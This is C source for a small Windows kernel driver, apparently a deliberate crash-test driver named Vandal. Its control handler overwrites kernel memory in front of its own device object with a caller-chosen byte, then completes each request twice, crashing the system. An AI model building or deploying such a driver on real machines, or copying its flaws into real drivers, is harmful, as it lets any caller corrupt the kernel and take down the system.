/* \Device\Vandal: leaves the kernel's own memory in ruins before it stops the system. */
#include <ntddk.h>

DRIVER_INITIALIZE DriverEntry;
static DRIVER_DISPATCH OpenOrClose, Control;

static NTSTATUS Complete(PIRP Irp) {
    Irp->IoStatus.Status = STATUS_SUCCESS;
    Irp->IoStatus.Information = 0;
    IoCompleteRequest(Irp, IO_NO_INCREMENT);
    return STATUS_SUCCESS;
}

static NTSTATUS OpenOrClose(PDEVICE_OBJECT DeviceObject, PIRP Irp) {
    UNREFERENCED_PARAMETER(DeviceObject);
    return Complete(Irp);
}

/* What stands before a device object is its name and its header. Function n fills them with the byte n; 0 spares them. */
static NTSTATUS Control(PDEVICE_OBJECT DeviceObject, PIRP Irp) {
    ULONG Function = IoGetCurrentIrpStackLocation(Irp)->Parameters.DeviceIoControl.IoControlCode >> 2 & 0x7FF;

    if (Function != 0) RtlFillMemory((PUCHAR)DeviceObject - 0x50, 0x50, (UCHAR)Function);
    Complete(Irp);
    return Complete(Irp);
}

NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath) {
    static UNICODE_STRING Name = RTL_CONSTANT_STRING(L"\\Device\\Vandal");
    PDEVICE_OBJECT Device;

    UNREFERENCED_PARAMETER(RegistryPath);
    DriverObject->MajorFunction[IRP_MJ_CREATE] = OpenOrClose;
    DriverObject->MajorFunction[IRP_MJ_CLOSE] = OpenOrClose;
    DriverObject->MajorFunction[IRP_MJ_DEVICE_CONTROL] = Control;
    return IoCreateDevice(DriverObject, 0, &Name, FILE_DEVICE_UNKNOWN, 0, FALSE, &Device);
}
